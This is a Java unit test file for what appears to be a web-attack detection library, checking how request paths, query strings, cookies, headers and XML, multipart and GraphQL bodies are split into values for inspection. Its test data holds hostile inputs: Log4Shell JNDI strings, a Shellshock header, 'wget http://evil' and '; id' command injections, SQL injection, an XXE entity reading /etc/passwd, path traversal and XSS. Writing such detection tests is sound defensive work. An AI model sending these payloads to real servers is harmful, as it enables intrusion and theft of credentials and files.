package ai.kongguard.detect.normalize;

import static ai.kongguard.detect.normalize.Samples.body;
import static ai.kongguard.detect.normalize.Samples.header;
import static ai.kongguard.detect.normalize.Samples.path;
import static ai.kongguard.detect.normalize.Samples.query;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ValueSourcesTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/",
                "/api/users/42",
                "/v1.2/app.js",
                "/2024-01-01/report.pdf",
                "/users/550e8400-e29b-41d4-a716-446655440000"
            })
    void leavesPlainPathsOut(String path) {
        assertThat(path(path)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/../x",
                "/etc/passwd",
                "/proc/self/environ",
                "/.env",
                "/.git/config",
                "/x/.htaccess",
                "/backup.sql",
                "/index.php.bak",
                "/web.config",
                "/a..b"
            })
    void keepsTellingPathsWhole(String path) {
        assertThat(path(path)).anySatisfy(value -> assertThat(value.text()).isEqualTo(path));
    }

    @Test
    void readsPathSegmentsAndTheirParameters() {
        assertThat(shown(path("/users/1'--/a;v=<b>/..;/x")))
                .containsExactly("PATH path /users/1'--/a;v=<b>/..;/x", "SEGMENT path 1'--", "SEGMENT path v=<b>");
    }

    @Test
    void readsQueryPairs() {
        assertThat(shown(query("a=1&b=x%20y&c&=z'&d=1=2&%3Cb%3E&e=%2B+%2B")))
                .containsExactly(
                        "PARAMETER query.b x y",
                        "PARAMETER query. z'",
                        "PARAMETER query.d 1=2",
                        "PARAMETER query.- <b>",
                        "PARAMETER query.e + +");
    }

    @Test
    void showsOddNamesWithTheirValue() {
        assertThat(shown(query("user[$ne]=1&user%5B$gt%5D=a'&tags%5B0%5D=b'&__proto__[x]=y")))
                .containsExactly(
                        "NAME query.- user[$ne]=1",
                        "NAME query.- user[$gt]=a'",
                        "PARAMETER query.- a'",
                        "PARAMETER query.tags[0] b'",
                        "NAME query.- __proto__[x]=y");
    }

    @Test
    void readsCookiesOneByOne() {
        assertThat(shown(header("cookie", "theme=dark; q=1%27; _ga=GA1.2.3.4; r=a+b")))
                .containsExactly("COOKIE cookie.q 1'", "COOKIE cookie.r a+b");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "accept|text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8",
                "accept-language|en-US,en;q=0.5",
                "content-type|multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
                "authorization|Bearer abc.def-_",
                "host|api.example.com:8443",
                "sec-ch-ua|\"Not(A:Brand\";v=\"99\", \"Google Chrome\";v=\"133\"",
                "sec-fetch-mode|navigate",
                "if-none-match|W/\"5e15153d-120f\"",
                "x-forwarded-for|203.0.113.7, 2001:db8::1",
                "user-agent|Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                        + "Chrome/133.0.0.0 Safari/537.36",
                "user-agent|Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 "
                        + "(KHTML, like Gecko) Version/17.0 Mobile/15E148 Safari/604.1",
                "user-agent|curl/8.5.0",
                "user-agent|python-requests/2.31.0",
                "referer|https://example.com/search?q=shoes",
                "origin|https://example.com"
            })
    void leavesOrdinaryHeadersOut(String header) {
        assertThat(shown(headerOf(header))).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "accept|${jndi:ldap://evil/a}",
                "content-type|%{(#_='multipart/form-data')}",
                "host|a' or 1=1",
                "host|../../etc/passwd",
                "authorization|`id`",
                "accept-language|en;q=1; wget http://evil",
                "range|sleep(5)",
                "sec-ch-ua|<script>",
                "user-agent|() { :;}; /bin/bash",
                "user-agent|Mozilla/5.0 (X11; wget http://evil/a)",
                "user-agent|1 UNION SELECT password FROM users",
                "user-agent|sleep(5)",
                "user-agent|Mozilla/5.0 ../etc",
                "referer|https://example.com/?q=%27",
                "referer|javascript:alert(1)",
                "x-forwarded-for|1 or 1=1",
                "x-real-ip|127.0.0.1; id",
                "x-api-version|${jndi:dns://x}"
            })
    void looksAtHeadersThatLeaveTheirGrammar(String header) {
        assertThat(shown(headerOf(header))).hasSize(1).first().asString().startsWith("HEADER header.");
    }

    @Test
    void readsFormBodies() {
        assertThat(shown(body("application/x-www-form-urlencoded", "q=1%27+or&n[$gt]=")))
                .containsExactly("PARAMETER body.q 1' or", "NAME body.- n[$gt]=");
    }

    @Test
    void takesAPlainTextAsOneValue() {
        assertThat(shown(body("text/plain", "hello, world"))).containsExactly("LEAF body hello, world");
    }

    @Test
    void readsPartsOfMultipartBodies() {
        String text = "--b\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n1' or 1\r\n"
                + "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../a.php\"\r\n"
                + "Content-Type: image/png<x>\r\n\r\n<?php 1\r\n"
                + "--b\r\nContent-Disposition: form-data; name=j\r\nContent-Type: application/json\r\n\r\n"
                + "{\"k\":\"<b>\"}\r\n--b--\r\n";
        assertThat(shown(body("multipart/form-data; boundary=\"b\"", text)))
                .contains(
                        "LEAF body.q 1' or 1",
                        "LEAF body.f ../a.php",
                        "LEAF body.f image/png<x>",
                        "LEAF body.f <?php 1",
                        "LEAF body.j <b>");
        assertThat(shown(body("multipart/form-data", text))).contains("LEAF body.q 1' or 1");
    }

    @Test
    void readsXmlWithoutResolvingAnything() {
        String text = "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
                + "<r a=\"1'2\"><b>&x; &lt;i&gt;</b><![CDATA[<s>]]><?php 1?><xi:include href=\"/e c\"/></r>";
        assertThat(shown(body("application/xml", text)))
                .contains(
                        "DOCUMENT body <!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
                        "LEAF body.a 1'2",
                        "LEAF body.b &x; <i>",
                        "LEAF body.b <s>",
                        "LEAF body <?php 1?>",
                        "LEAF body.href /e c",
                        "LEAF body <xi:include href=\"/e c\"/>");
        assertThat(body("text/plain", text).get(0).kind()).isEqualTo(CanonicalValue.Kind.DOCUMENT);
    }

    @Test
    void readsGraphQlAsADocumentAndItsStrings() {
        String query = "{ user(name: \"1' or\") { id } } # \"no\"";
        assertThat(shown(body("application/graphql", query)))
                .containsExactly("DOCUMENT body " + query, "LEAF body 1' or");
        assertThat(shown(body("application/json", "{\"query\":\"{a(b:\\\"<i>\\\")}\"}")))
                .containsExactly("DOCUMENT body.query {a(b:\"<i>\")}", "LEAF body.query <i>");
    }

    private static List<CanonicalValue> headerOf(String header) {
        int bar = header.indexOf('|');
        return header(header.substring(0, bar), header.substring(bar + 1));
    }

    static List<String> shown(List<CanonicalValue> values) {
        return values.stream()
                .map(value -> value.kind() + " " + value.field() + " " + value.text())
                .toList();
    }
}
